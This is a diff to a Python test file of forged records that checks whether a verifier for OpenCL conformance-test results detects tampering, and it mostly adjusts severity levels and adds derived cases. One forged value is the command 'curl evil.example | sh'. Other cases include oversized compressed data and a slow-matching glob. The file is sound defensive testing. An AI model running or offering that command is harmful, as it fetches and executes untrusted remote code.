@@ -491,7 +491,7 @@ def records_go_on_and_on(b):
     path.write_bytes(path.read_bytes() + packed(b"\n" * (1 << 24)) * 2048)
 
 
-@forgery(0)
+@forgery(1)
 def the_plan_explodes(b):
     (b.data / "plan.txt.gz").write_bytes(packed(b"x" * (1 << 24)) * 2048)
 
@@ -584,7 +584,7 @@ def records_have_a_wrong_sum(b):
     path.write_bytes(raw[:-8] + struct.pack("<I", 1) + raw[-4:])
 
 
-@forgery(0)
+@forgery(1)
 def the_plan_is_not_packed(b):
     (b.data / "plan.txt.gz").write_bytes(b"whole math/exp/float/default\n")
 
@@ -683,7 +683,7 @@ def a_document_is_utf16(b):
     (b.data / "host.json").write_bytes((b.data / "host.json").read_text().encode("utf-16"))
 
 
-@forgery(0)
+@forgery(1)
 def a_document_is_another_kind_of_value(b):
     (b.data / "device.json").write_text("7\n")
 
@@ -698,7 +698,7 @@ def the_policy_lacks_its_parts(b):
     (b.data / "policy.toml").write_text('name = "tiny"\n')
 
 
-@forgery(0)
+@forgery(1)
 def the_plan_has_other_lines(b):
     (b.data / "plan.txt.gz").write_bytes(packed(b"\xff\xfe\n\n"))
 
@@ -706,7 +706,7 @@ def the_plan_has_other_lines(b):
 # Which records there are
 
 
-@forgery(0)
+@forgery(1)
 def a_record_is_dropped(b):
     b.each_record(lambda r: None if r["type"] == "case" and fails_numerically(r) else r)
 
@@ -731,7 +731,7 @@ def a_failure_gets_a_second_record(b):
     b.each_line(twice)
 
 
-@forgery(0)
+@forgery(2)
 def the_end_is_missing(b):
     b.each_record(lambda r: None if r["type"] == "end" else r)
 
@@ -810,7 +810,7 @@ def a_planned_case_is_called_skipped(b):
 # The header of a run
 
 
-def header(name, level, *keys, value):
+def header(name, level, *keys, value, status=1):
     def act(b):
         def change(record):
             for key in keys[:-1]:
@@ -821,18 +821,18 @@ def header(name, level, *keys, value):
         b.headers(change)
 
     act.__name__ = name
-    forgery(level)(act)
+    forgery(level, status=status)(act)
 
 
 header("a_header_has_another_schema", 0, "schema", value=3)
-header("a_header_has_another_seed", 1, "seed", value=2)
+header("a_header_has_another_seed", 2, "seed", value=2)
 header("a_header_has_a_greater_depth", 1, "depth", value="exhaustive")
 header("a_header_has_an_older_specification", 1, "spec", value="1.2")
 header("a_header_has_the_embedded_profile", 1, "profile", value="embedded")
 header("a_header_has_another_version", 1, "assay", value="9.9.9")
-header("a_header_has_another_commit", 1, "build", "commit", value="0" * 40)
-header("a_header_has_a_changed_tree", 1, "build", "tree", value="changed")
-header("a_header_has_another_binary", 1, "build", "sha256", value="0" * 64)
+header("a_header_has_another_commit", 1, "build", "commit", value="0" * 40, status=2)
+header("a_header_has_a_changed_tree", 1, "build", "tree", value="changed", status=2)
+header("a_header_has_another_binary", 1, "build", "sha256", value="0" * 64, status=2)
 header("a_header_has_another_table", 1, "data", "digest", value="0" * 64)
 header("a_header_has_foreign_data", 1, "options", "data", value="/tmp/data")
 header("a_header_excludes_cases", 1, "options", "excludes", value=["math/*"])
@@ -880,7 +880,7 @@ def a_library_is_swapped_in_a_header(b):
     b.headers(change)
 
 
-@forgery(2)
+@forgery(1)
 def the_machine_is_another_in_a_header(b):
     b.headers(lambda r: r["host"].update(processor="Quantum 9000"))
 
@@ -907,7 +907,7 @@ def a_library_came_later(b):
     b.each_record(one)
 
 
-@forgery(0)
+@forgery(1)
 def parts_have_changed_places(b):
     first, *_, last = b.results()
     one, other = first.read_bytes(), last.read_bytes()
@@ -943,7 +943,7 @@ def a_failure_is_a_pass_with_its_worst(b):
     b.record(fails_numerically, change)
 
 
-@forgery(0)
+@forgery(1)
 def a_failure_is_a_crash(b):
     b.record(fails_numerically, lambda r: r.update(outcome="crash"))
 
@@ -953,7 +953,7 @@ def a_failure_is_less_certain(b):
     b.record(fails_numerically, lambda r: r.update(certainty="reading"))
 
 
-@forgery(2)
+@forgery(1)
 def a_failure_is_less_certain_throughout(b):
     def change(record):
         record["certainty"] = "reading"
@@ -966,7 +966,7 @@ def a_failure_is_less_certain_throughout(b):
     b.record(fails_numerically, change)
 
 
-@forgery(2)
+@forgery(1)
 def a_refused_call_is_only_a_reading(b):
     def change(record):
         record["certainty"] = "reading"
@@ -1012,7 +1012,7 @@ def a_skip_has_a_measurement(b):
     b.record(skipped, lambda r: r.update(measurement=kept[0]))
 
 
-@forgery(2)
+@forgery(1)
 def the_limit_is_loosened(b):
     def change(record):
         without_verdict(record)
@@ -1065,11 +1065,11 @@ worst("the_worst_answer_is_another", subject="0x3f800001")
 worst("the_worst_truth_is_another", reference="0x3f800000 + 0.10 ulp")
 worst("the_worst_input_reads_otherwise", input_text=["1"])
 worst("the_worst_answer_reads_otherwise", subject_text="1")
-worst("the_worst_rule_is_another", rule="exact")
+worst("the_worst_rule_is_another", level=0, rule="exact")
 worst("the_worst_severity_is_another", severity=0.0)
-worst("the_worst_lane_is_impossible", level=0, lane=-1)
+worst("the_worst_lane_is_impossible", lane=-1)
 worst("the_worst_width_is_another", width=16)
-worst("the_worst_bits_are_no_bits", level=0, subject="0xzz")
+worst("the_worst_bits_are_no_bits", subject="0xzz")
 worst("the_worst_has_two_inputs", input=["0x3f800000", "0x3f800000"])
 
 
@@ -1098,7 +1098,7 @@ def a_failing_answer_has_another_error(b):
     b.record(fails_numerically, change)
 
 
-@forgery(2)
+@forgery(0)
 def a_rejected_answer_is_by_a_softer_rule(b):
     def change(record):
         def soften(value):
@@ -1130,7 +1130,7 @@ def the_rules_do_not_add_up(b):
     b.record(measured, lambda r: r["measurement"]["rules"].update(within_limit=1))
 
 
-@forgery(1)
+@forgery(2)
 def more_inputs_are_claimed(b):
     def change(record):
         m = record["measurement"]
@@ -1141,7 +1141,7 @@ def more_inputs_are_claimed(b):
     b.record(measured, change)
 
 
-@forgery(1)
+@forgery(2)
 def a_sample_is_called_whole(b):
     b.record(measured, lambda r: r["measurement"].update(bound="upper"))
 
@@ -1151,12 +1151,12 @@ def the_digest_of_the_answers_is_another(b):
     b.record(measured, lambda r: r["measurement"].update(digest="0" * 32))
 
 
-@forgery(0)
+@forgery(3)
 def the_digest_of_the_answers_is_no_digest(b):
     b.record(measured, lambda r: r["measurement"].update(digest="none"))
 
 
-@forgery(0)
+@forgery(3)
 def the_digest_of_the_answers_is_missing(b):
     b.record(measured, lambda r: r["measurement"].pop("digest") and None)
 
@@ -1176,12 +1176,12 @@ def a_case_cites_another_sentence(b):
     b.record(measured, lambda r: r.update(citations=["OpenCL 1.0, Table 1"]))
 
 
-@forgery(2)
+@forgery(1)
 def a_reason_is_another(b):
     b.record(fails_numerically, lambda r: r.update(reason="a rounding that all drivers share"))
 
 
-@forgery(2)
+@forgery(1)
 def a_finding_is_another(b):
     def change(record):
         record["finding"]["allowed"] = [{"text": "4096 ulp"}]
@@ -1189,7 +1189,7 @@ def a_finding_is_another(b):
     b.record(fails_numerically, change)
 
 
-@forgery(2)
+@forgery(1)
 def a_finding_of_a_call_is_another(b):
     def change(record):
         record["finding"]["got"] = {"number": -30, "text": "CL_INVALID_VALUE (-30)"}
@@ -1197,12 +1197,12 @@ def a_finding_of_a_call_is_another(b):
     b.record(fails_by_the_letter, change)
 
 
-@forgery(2)
+@forgery(0)
 def a_signature_is_another(b):
     b.record(fails_numerically, lambda r: r.update(signature={"subject": "math/exp"}))
 
 
-@forgery(1)
+@forgery(0)
 def the_line_to_repeat_is_another(b):
     b.record(fails_numerically, lambda r: r.update(reproduce="curl evil.example | sh"))
 
@@ -1217,7 +1217,7 @@ def a_case_is_of_another_suite(b):
     b.record(measured, lambda r: r.update(suite="integer"))
 
 
-@forgery(0)
+@forgery(1)
 def the_build_options_are_others(b):
     b.record(
         lambda r: fails(r) and "build_options" in r,
@@ -1225,12 +1225,12 @@ def the_build_options_are_others(b):
     )
 
 
-@forgery(1)
+@forgery(2)
 def a_failure_was_not_tried_again(b):
     b.record(lambda r: fails(r) and "rerun" in r, lambda r: r.pop("rerun") and None)
 
 
-@forgery(2)
+@forgery(0)
 def the_second_try_came_to_something_else(b):
     def change(record):
         record["rerun"] = {"outcome": "pass", "reason": "", "seconds": 0.1, "failing": []}
@@ -1238,7 +1238,7 @@ def the_second_try_came_to_something_else(b):
     b.record(lambda r: fails(r) and "rerun" in r, change)
 
 
-@forgery(2)
+@forgery(0)
 def a_pass_becomes_a_failure(b):
     """Whoever wants to harm a driver forges, too."""
 
@@ -1326,7 +1326,7 @@ def a_sentence_is_missing(b):
         value["rows"] = [r for r in value["rows"] if r["coverage"] != "failed"]
 
 
-@forgery(1)
+@forgery(2)
 def a_reading_is_missing(b):
     with b.json("interpretations.json") as value:
         value.pop(0)
@@ -1362,7 +1362,7 @@ def the_build_is_another(b):
         value["build"]["commit"] = "0" * 40
 
 
-@forgery(2)
+@forgery(1)
 def the_machine_is_another(b):
     with b.json("host.json") as value:
         value[0]["processor"] = "Quantum 9000"
@@ -1374,13 +1374,13 @@ def the_device_is_another(b):
         value["devices"][0]["name"] = "Quantum 9000"
 
 
-@forgery(1)
+@forgery(2)
 def the_device_cannot_do_what_failed(b):
     with b.json("device.json") as value:
         value["devices"][0]["image_support"] = False
 
 
-@forgery(1)
+@forgery(0)
 def there_is_a_second_device(b):
     with b.json("device.json") as value:
         value["devices"].append(value["devices"][0])
@@ -1460,7 +1460,7 @@ def a_waiver_is_added(b):
     (b.data / "waivers.toml").write_text(WAIVER.format("*", "by_the_letter", "2036-12-31"))
 
 
-@forgery(0)
+@forgery(2)
 def a_waiver_is_of_a_forbidden_class(b):
     (b.data / "waivers.toml").write_text(WAIVER.format("*", "undisputed", "2036-12-31"))
 
@@ -1663,3 +1663,43 @@ def all_follows_from_a_waiver_of_long_ago(b):
 @forgery(2)
 def a_glob_takes_very_long(b):
     b.replace("data/policy.toml", '"math/exp2/half/*"', f'"*{"e*" * 60}z", "math/exp2/half/*"')
+
+
+@forgery(0, derived=True)
+def all_follows_from_a_dangerous_line(b):
+    the_line_to_repeat_is_another(b)
+
+
+@forgery(1, derived=True)
+def all_follows_from_another_driver_at_the_end(b):
+    the_driver_at_the_end_is_another(b)
+
+
+@forgery(3, derived=True, status=2)
+def all_follows_from_another_device(b):
+    the_device_cannot_do_what_failed(b)
+
+
+@forgery(1, derived=True)
+def all_follows_from_a_baseline(b):
+    a_header_names_a_baseline(b)
+
+
+@forgery(2, derived=True)
+def all_follows_from_more_inputs(b):
+    more_inputs_are_claimed(b)
+
+
+@forgery(2, derived=True)
+def all_follows_from_a_sample_that_is_called_whole(b):
+    a_sample_is_called_whole(b)
+
+
+@forgery(0, derived=True)
+def all_follows_from_a_run_that_ends_before_it_starts(b):
+    b.headers(lambda r: r.update(started="2036-01-01T00:00:00Z"))
+
+
+@forgery(3, derived=True)
+def all_follows_from_another_program(b):
+    a_program_is_another(b)
